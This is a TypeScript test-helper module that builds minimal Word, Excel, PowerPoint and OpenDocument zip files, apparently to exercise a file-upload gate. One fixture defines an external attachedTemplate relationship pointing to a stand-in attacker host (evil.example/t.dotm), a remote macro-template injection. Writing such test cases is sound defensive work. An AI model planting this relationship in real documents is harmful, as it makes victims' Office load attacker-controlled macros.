import { makeZip, type ZipItem } from './make-zip.mts';

const main = {
  docx: ['wordprocessingml.document.main+xml', 'word/document.xml'],
  xlsx: ['spreadsheetml.sheet.main+xml', 'xl/workbook.xml'],
  pptx: ['presentationml.presentation.main+xml', 'ppt/presentation.xml'],
} as const;

/** The parts of an office file of today that the gate looks at. */
export function listOpenXml(kind: keyof typeof main, type: string = main[kind][0]): ZipItem[] {
  const part = main[kind][1];
  const types = `<?xml version="1.0"?><Types><Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}"/></Types>`;
  return [
    { name: '[Content_Types].xml', data: types },
    { name: '_rels/.rels', data: '<Relationships/>' },
    { name: part, data: '<w:document>Kế hoạch năm</w:document>' },
  ];
}

export const makeOpenXml = (kind: keyof typeof main, more: readonly ZipItem[] = []): Buffer =>
  makeZip([...listOpenXml(kind), ...more]);

/** A settings part's list of links, with one that leads to another computer. */
export const externalTemplate: ZipItem = {
  name: 'word/_rels/settings.xml.rels',
  data: '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
};

export function makeOpenDocument(
  type: 'text' | 'spreadsheet' | 'graphics',
  more: readonly ZipItem[] = [],
): Buffer {
  return makeZip([
    { name: 'mimetype', data: `application/vnd.oasis.opendocument.${type}`, isStored: true },
    { name: 'content.xml', data: '<office:document-content/>' },
    { name: 'META-INF/manifest.xml', data: '<manifest:manifest/>' },
    ...more,
  ]);
}
